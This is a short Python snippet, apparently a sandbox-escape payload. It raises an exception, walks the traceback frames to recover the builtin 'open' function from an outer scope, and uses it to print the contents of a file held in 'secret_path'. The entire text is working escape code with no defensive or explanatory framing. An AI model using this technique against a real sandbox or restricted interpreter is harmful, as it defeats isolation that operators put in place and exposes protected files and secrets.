# From an exception to the frames that it passed through.
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
while frame is not None:
    if "open" in frame.f_builtins:
        print(frame.f_builtins["open"](secret_path).read())
        break
    frame = frame.f_back
